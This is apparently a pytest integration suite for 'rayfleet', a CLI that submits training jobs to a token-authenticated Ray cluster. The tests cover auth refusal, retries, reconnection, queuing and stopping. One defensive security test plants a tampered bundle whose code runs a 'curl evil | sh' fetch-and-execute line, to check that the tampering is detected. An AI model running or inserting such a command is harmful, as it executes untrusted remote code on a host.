"""`rayfleet submit` and `rayfleet jobs` against a real Ray head (token auth on, loopback only).

One head for the module: the CLI runs as a user runs it (a subprocess, its own HOME so no
token file lying around on this machine is picked up), the job's driver runs on the head
with the package and the spec's folder shipped through the runtime_env, and storage is the
loopback S3 server. The last test stops the head and reads the records from storage alone.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from tests.conftest import BUCKET, REPO
from tests.integration.ray_head import RAY, RayHead

pytestmark = pytest.mark.integration

TRAIN = str(REPO / "jobs/digits/train.yaml")
STORAGE = f"s3://{BUCKET}/submitted"


@pytest.fixture(scope="module")
def user_env(s3, tmp_path_factory):
    """What a user's shell has: the S3 variables, a storage default, a HOME of its own."""
    home = tmp_path_factory.mktemp("home")
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("RAY_", "RAYFLEET_")) and k not in ("PYTEST_CURRENT_TEST",)
    }
    env.update(HOME=str(home), RAYFLEET_STORAGE=STORAGE, COLUMNS="200")
    return env


@pytest.fixture(scope="module")
def dataset(s3):
    """The dataset the spec names (`digits`), at <storage>/datasets/digits."""
    from rayfleet.data.digits import import_digits
    from rayfleet.storage.uri import parse_uri

    import_digits(parse_uri(f"{STORAGE}/datasets/digits"))


@pytest.fixture(scope="module")
def head(user_env, dataset):
    head = RayHead(user_env).start()
    yield head
    head.stop()


def cli(args, env, *, token=None, timeout=600, **popen):
    env = dict(env)
    if token:
        env["RAY_AUTH_TOKEN"] = token
    return subprocess.run(
        [sys.executable, "-m", "rayfleet", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=REPO,
        **popen,
    )


def record_of(kind_dir: str, name: str) -> dict | None:
    from rayfleet import record
    from rayfleet.storage.filesystem import filesystem_for
    from rayfleet.storage.uri import parse_uri

    uri = parse_uri(f"{STORAGE}/{kind_dir}/{name}")
    return record.read(filesystem_for(uri), uri)


def test_submit_follow_trains_digits_with_record_and_ray_sees_it(head, user_env):
    proc = cli(
        [
            "submit",
            TRAIN,
            "--address",
            head.address,
            "--follow",
            "--set=metadata.name=cluster-digits",
        ],
        user_env,
        token=head.token,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "submitted rayfleet-cluster-digits-1" in proc.stderr
    assert "done in" in proc.stdout and "val_accuracy: " in proc.stdout  # the driver's own log
    accuracy = float(proc.stdout.split("val_accuracy: ")[1].split()[0])
    assert accuracy >= 0.95

    doc = record_of("runs", "cluster-digits")
    assert doc["status"] == "SUCCEEDED" and doc["cluster"] == head.address
    assert [s["id"] for s in doc["submissions"]] == ["rayfleet-cluster-digits-1"]
    assert doc["submissions"][0]["status"] == "SUCCEEDED" and doc["retries"] == 0
    assert [e["epoch"] for e in doc["epochs"]] == list(range(12))
    assert any("done in" in line for line in doc["logTail"])
    from rayfleet.storage.checkpoints import list_checkpoints, verify
    from rayfleet.storage.filesystem import filesystem_for
    from rayfleet.storage.uri import parse_uri

    run = parse_uri(f"{STORAGE}/runs/cluster-digits")
    fs = filesystem_for(run)
    checkpoints = list_checkpoints(fs, run.fs_path)
    assert len(checkpoints) == 3 and all(verify(fs, path).ok for _, path in checkpoints)
    assert doc["result"]["checkpointUri"].startswith(
        f"{STORAGE}/runs/cluster-digits/checkpoint_e000011-"
    )

    # Ray's own CLI lists the job (with the token: the head refuses anyone without it).
    env = {**user_env, "RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": head.token}
    listed = subprocess.run(
        [RAY, "job", "list", "--address", head.address],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert listed.returncode == 0, listed.stderr[-2000:]
    assert "rayfleet-cluster-digits-1" in listed.stdout

    # ... and so do `rayfleet jobs list|status|logs` (JSON for scripts).
    out = cli(["jobs", "list", "--address", head.address, "-o", "json"], user_env, token=head.token)
    assert out.returncode == 0, out.stderr
    rows = {row["id"]: row for row in json.loads(out.stdout)}
    assert rows["rayfleet-cluster-digits-1"]["run"] == "cluster-digits"
    assert rows["rayfleet-cluster-digits-1"]["status"] == "SUCCEEDED"
    out = cli(
        ["jobs", "status", "cluster-digits", "--address", head.address, "-o", "json"],
        user_env,
        token=head.token,
    )
    assert json.loads(out.stdout)["status"] == "SUCCEEDED", out.stderr
    out = cli(
        ["jobs", "logs", "cluster-digits", "--address", head.address], user_env, token=head.token
    )
    assert "val_accuracy: " in out.stdout, out.stderr


@pytest.mark.parametrize("token", [None, "not-the-token"], ids=["no-token", "wrong-token"])
def test_submit_without_the_right_token_is_refused_and_nothing_runs(head, user_env, token):
    name = f"refused-{'none' if token is None else 'wrong'}"
    proc = cli(
        ["submit", TRAIN, "--address", head.address, f"--set=metadata.name={name}"],
        user_env,
        token=token,
        timeout=120,
    )
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr
    expected = (
        "none was sent" if token is None else "refused the Ray auth token from RAY_AUTH_TOKEN"
    )
    assert expected in lines[0] and head.address in lines[0]
    out = cli(["jobs", "list", "--address", head.address, "-o", "json"], user_env, token=head.token)
    assert name not in out.stdout
    assert record_of("runs", name) is None


def _driver_pids(run_name: str) -> list[int]:
    import psutil

    found = []
    for proc in psutil.process_iter(["pid", "cmdline"]):
        cmd = " ".join(proc.info["cmdline"] or [])
        if "-m rayfleet run" in cmd and f"metadata.name={run_name}" in cmd and "sh -c" not in cmd:
            found.append(proc.info["pid"])
    return found


def test_killed_driver_is_resubmitted_and_resumes_without_repeating_epochs(head, user_env):
    name = "cluster-retry"
    # Workers run ahead of the record (each epoch reaches it through the driver, then a
    # storage write) and keep training until Ray sees the driver gone: on an idle machine a
    # digits epoch takes ~0.5 s and the workers had finished 6 epochs by then. 20 leaves the
    # second launch epochs to train whatever the lag.
    epochs = 20
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "rayfleet",
            "submit",
            TRAIN,
            "--address",
            head.address,
            "--retries",
            "1",
            f"--set=metadata.name={name}",
            f"--set=spec.run.epochs={epochs}",
        ],
        env={**user_env, "RAY_AUTH_TOKEN": head.token},
        cwd=REPO,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    killed = []
    deadline = time.monotonic() + 300
    while not killed and time.monotonic() < deadline and proc.poll() is None:
        doc = record_of("runs", name) or {}
        if doc.get("epochs") and (pids := _driver_pids(name)):
            for pid in pids:
                os.kill(pid, signal.SIGKILL)
            killed = pids
        time.sleep(0.5)
    out, err = proc.communicate(timeout=600)
    assert killed, f"never saw the driver train an epoch: {err[-3000:]}"
    assert proc.returncode == 0, out[-2000:] + err[-3000:]
    assert "resubmitting run cluster-retry (it resumes)" in err

    doc = record_of("runs", name)
    assert doc["status"] == "SUCCEEDED" and doc["retries"] == 1 and doc["launches"] == 2
    subs = doc["submissions"]
    assert [s["id"] for s in subs] == [f"rayfleet-{name}-1", f"rayfleet-{name}-2"]
    assert subs[0]["status"] == "FAILED" and subs[1]["status"] == "SUCCEEDED"
    trained = [(e["epoch"], e["launch"]) for e in doc["epochs"]]
    assert sorted(e for e, _ in trained) == list(range(epochs)), trained  # none twice, none lost
    assert {launch for _, launch in trained} == {1, 2}, trained


def test_follow_reattaches_after_a_dropped_connection_and_big_folders_go_through_s3(head, user_env):
    """The user-module spec (jobs/custom) through a proxy that drops every connection once
    the log shows an epoch: the CLI reattaches and prints the log once, with nothing lost.
    The folder counts as big (limit 0 MB), so it travels as a zip in storage, not the head."""
    from tests.integration.tcp_proxy import CuttableProxy

    proxy = CuttableProxy(head.dashboard_port)
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "rayfleet",
            "submit",
            str(REPO / "jobs/custom/train.yaml"),
            "--address",
            proxy.address,
            "--follow",
            "--set=metadata.name=cluster-custom",
        ],
        env={**user_env, "RAY_AUTH_TOKEN": head.token, "RAYFLEET_INLINE_BUNDLE_MB": "0"},
        cwd=REPO,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    lines = []
    for line in proc.stdout:
        lines.append(line)
        if line.startswith("epoch 1/") and not proxy.cuts:
            proxy.cut()
    err = proc.stderr.read()
    proc.wait(60)
    proxy.close()
    out = "".join(lines)
    assert proc.returncode == 0, out[-2000:] + err[-3000:]
    assert proxy.cuts == 1 and "reattaching" in err, err
    epoch_lines = [line for line in lines if line.startswith("epoch ")]
    assert [line.split()[1] for line in epoch_lines] == ["1/3", "2/3", "3/3"], out
    doc = record_of("runs", "cluster-custom")
    assert doc["status"] == "SUCCEEDED"
    job = json.loads(
        cli(
            ["jobs", "status", "cluster-custom", "--address", head.address, "-o", "json"],
            user_env,
            token=head.token,
        ).stdout
    )
    assert job["status"] == "SUCCEEDED"
    from rayfleet.storage.filesystem import filesystem_for
    from rayfleet.storage.uri import parse_uri

    bundles = parse_uri(f"{STORAGE}/bundles")
    import pyarrow.fs as pafs

    found = filesystem_for(bundles).get_file_info(pafs.FileSelector(bundles.fs_path))
    assert [f.base_name for f in found if f.base_name.endswith(".zip")], "no bundle in storage"


@pytest.mark.security
def test_a_replaced_bundle_in_storage_is_uploaded_again_not_trusted(s3, tmp_path, monkeypatch):
    """Someone who can write to <storage>/bundles/ overwrites a bundle with their own code:
    the next submission of the folder reads the object back, sees the hash mismatch, and
    uploads the folder's bundle again (which never holds dotfiles, keys or symlinks)."""
    import io
    import zipfile

    from rayfleet.jobs import bundle
    from rayfleet.storage.filesystem import filesystem_for, read_bytes, write_bytes
    from rayfleet.storage.uri import parse_uri

    monkeypatch.setenv("RAYFLEET_INLINE_BUNDLE_MB", "0")  # every folder goes through S3
    folder = tmp_path / "spec"
    (folder / "pkg").mkdir(parents=True)
    (folder / "train.yaml").write_text("kind: TrainJob\n")
    (folder / "pkg/loop.py").write_text("def train_loop(config): pass\n")
    (folder / ".env").write_text("AWS_SECRET_ACCESS_KEY=do-not-ship\n")
    (folder / "id_ed25519").write_text("do-not-ship\n")
    (tmp_path / "home-secret").write_text("do-not-ship\n")
    (folder / "data").symlink_to(tmp_path / "home-secret")
    storage = parse_uri(f"{STORAGE}/bundle-check")

    first = bundle.build(folder, storage, {})
    uri = parse_uri(first.uploaded_to)
    fs = filesystem_for(uri)
    expected = read_bytes(fs, uri.fs_path)
    planted = io.BytesIO()
    with zipfile.ZipFile(planted, "w") as archive:
        archive.writestr("bundle/train.yaml", "kind: TrainJob  # someone else's\n")
        archive.writestr("bundle/pkg/loop.py", "import os; os.system('curl evil | sh')\n")
    write_bytes(fs, uri.fs_path, planted.getvalue())

    second = bundle.build(folder, storage, {})
    assert second.uploaded_to == first.uploaded_to
    assert read_bytes(fs, uri.fs_path) == expected == bundle.zip_folder(folder)
    assert "held other bytes" in second.note and "uploaded" in second.note
    assert bundle.build(folder, storage, {}).note is None  # verified, reused as it is
    with zipfile.ZipFile(io.BytesIO(expected)) as archive:
        assert sorted(archive.namelist()) == ["bundle/pkg/loop.py", "bundle/train.yaml"]
        assert all(b"do-not-ship" not in archive.read(n) for n in archive.namelist())
    assert sorted(second.skipped) == [".env", "data", "id_ed25519"]


def test_a_plain_ray_train_loop_submits_unchanged(head, user_env):
    """jobs/ray-loop: a loop using only Ray Train's API, on the token-auth head."""
    name = "cluster-ray-loop"
    proc = cli(
        [
            "submit",
            str(REPO / "jobs/ray-loop/train.yaml"),
            "--address",
            head.address,
            "--follow",
            f"--set=metadata.name={name}",
            "--set=spec.model.config.epochs=2",
        ],
        user_env,
        token=head.token,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "epoch 2/2" in proc.stdout and "val_accuracy" in proc.stdout, proc.stdout[-2000:]
    doc = record_of("runs", name)
    assert doc["status"] == "SUCCEEDED", doc
    assert [e["epoch"] for e in doc["epochs"]] == [0, 1]
    assert doc["result"]["checkpointUri"].startswith(f"{STORAGE}/runs/{name}/checkpoint_20")


def test_a_job_waiting_for_resources_says_it_is_queued_and_why(head, user_env):
    """A driver reserving more CPUs than the head has stays PENDING: --follow says so, with
    Ray's reason, instead of printing nothing."""
    name = "cluster-queued"
    proc = subprocess.Popen(
        [sys.executable, "-m", "rayfleet", "submit", TRAIN, "--address", head.address]
        + ["--follow", f"--set=metadata.name={name}", "--set=spec.driver.cpus=64"],
        env={**user_env, "RAY_AUTH_TOKEN": head.token},
        cwd=REPO,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    queued = ""
    watchdog = threading.Timer(300, proc.kill)  # never wait forever for the line
    watchdog.start()
    try:
        for line in proc.stderr:
            if "queued for" in line:
                queued = line
                break
    finally:
        proc.kill()
        proc.communicate(timeout=60)
        watchdog.cancel()
    assert "waiting for resources" in queued.lower(), queued
    # Ray cannot stop a job whose driver has not started; `jobs stop` says so in one line.
    args = ["jobs", "stop", name, "--address", head.address, "--wait", "1"]
    stopped = cli(args, user_env, token=head.token)
    assert stopped.returncode == 0, stopped.stderr
    assert "cannot stop a job before its driver starts" in " ".join(stopped.stderr.split())


def test_submit_without_follow_then_stop_keeps_the_record_current(head, user_env):
    name = "cluster-stopped"
    args = ["--address", head.address]
    proc = cli(
        [
            "submit",
            str(REPO / "jobs/custom/train.yaml"),
            *args,
            f"--set=metadata.name={name}",
            "--set=spec.run.epochs=50",
        ],
        user_env,
        token=head.token,
    )
    assert proc.returncode == 0, proc.stderr
    assert f"rayfleet jobs logs {name} --follow" in proc.stdout
    again = cli(
        ["submit", str(REPO / "jobs/custom/train.yaml"), *args, f"--set=metadata.name={name}"],
        user_env,
        token=head.token,
    )
    assert again.returncode == 2 and "already" in again.stderr, again.stderr  # not twice
    deadline = time.monotonic() + 120
    while not (record_of("runs", name) or {}).get("epochs") and time.monotonic() < deadline:
        time.sleep(1)
    out = cli(["jobs", "stop", name, *args, "-o", "json"], user_env, token=head.token)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["status"] == "STOPPED"
    doc = record_of("runs", name)
    assert doc["status"] == "STOPPED" and doc["submissions"][-1]["status"] == "STOPPED"
    assert doc["epochs"] and doc["logTail"]


@pytest.mark.slow
def test_submit_a_sweep(head, user_env):
    """A SweepJob through the same path (opt-in: a sweep takes minutes on 2 CPUs)."""
    proc = cli(
        [
            "submit",
            str(REPO / "jobs/digits/sweep.yaml"),
            "--address",
            head.address,
            "--follow",
            "--set=metadata.name=cluster-sweep",
            "--set=spec.numSamples=2",
            "--set=spec.trainJob.overrides={run.epochs: 2, scaling.numWorkers: 1}",
        ],
        user_env,
        token=head.token,
        timeout=900,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "best: trial" in proc.stdout
    doc = record_of("sweeps", "cluster-sweep")
    assert doc["status"] == "SUCCEEDED" and doc["kind"] == "SweepJob"


class _Silent:
    """A TCP port that accepts connections and never answers (a black-holed address)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.conns = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                self.conns.append(self.sock.accept()[0])
            except OSError:
                return

    def close(self):
        for conn in self.conns:
            conn.close()
        self.sock.close()


def test_unreachable_address_fails_fast_naming_it(user_env, dataset):
    silent = _Silent()
    try:
        for address in (f"http://127.0.0.1:{silent.port}", "http://127.0.0.1:9"):
            started = time.monotonic()
            proc = cli(["submit", TRAIN, "--address", address], user_env, timeout=60)
            took = time.monotonic() - started
            assert proc.returncode == 2, proc.stdout + proc.stderr
            assert address in proc.stderr and "Traceback" not in proc.stderr
            assert took < 10 + 5, took  # 10 s budget; interpreter start-up on a busy 2-core VM
    finally:
        silent.close()


def test_bad_spec_and_failing_preflight_are_reported_before_the_cluster(user_env, dataset):
    # The address is a silent port: reaching it would hang for seconds and name it instead.
    silent = _Silent()
    try:
        address = f"http://127.0.0.1:{silent.port}"
        proc = cli(["submit", TRAIN, "--address", address, "--set=spec.run.epochs=0"], user_env)
        assert proc.returncode == 2 and "epochs" in proc.stderr and address not in proc.stderr
        proc = cli(
            ["submit", TRAIN, "--address", address, "--set=spec.storage=s3://no-such-bucket"],
            user_env,
        )
        assert proc.returncode == 2 and "no-such-bucket" in proc.stderr, proc.stderr
        assert address not in proc.stderr and not silent.conns
    finally:
        silent.close()


def test_describe_reads_the_record_after_the_head_is_gone(head, user_env):
    head.stop()
    out = cli(["jobs", "describe", "cluster-retry", "--storage", STORAGE, "-o", "json"], user_env)
    assert out.returncode == 0, out.stderr
    doc = json.loads(out.stdout)
    assert doc["status"] == "SUCCEEDED" and doc["retries"] == 1
    out = cli(["jobs", "describe", "cluster-retry"], user_env)  # storage from RAYFLEET_STORAGE
    assert out.returncode == 0, out.stderr
    assert "cluster-retry (TrainJob): SUCCEEDED  launches: 2  retries: 1" in out.stdout
    assert "epochs trained: 20 (0..19), none repeated" in out.stdout
    assert "submission rayfleet-cluster-retry-1: FAILED" in out.stdout
    out = cli(["jobs", "describe", "no-such-run", "--storage", STORAGE], user_env)
    assert out.returncode == 2 and "no record for 'no-such-run'" in out.stderr
    # The full logs were copied to storage while the jobs ran: readable with no cluster.
    out = cli(["jobs", "logs", "cluster-digits", "--storage", STORAGE], user_env)
    assert out.returncode == 0, out.stderr
    assert "epoch 12/12" in out.stdout and "done in" in out.stdout, out.stdout[-2000:]
    out = cli(
        ["jobs", "logs", "cluster-retry", "--storage", STORAGE, "--stream", "all", "-o", "json"],
        user_env,
    )
    assert out.returncode == 0, out.stderr
    logs = json.loads(out.stdout)
    assert logs["driver"].count("cluster-retry: ") >= 2, logs["driver"][-2000:]  # both launches
    assert "resuming from checkpoint_e" in logs["worker-rank0"], logs
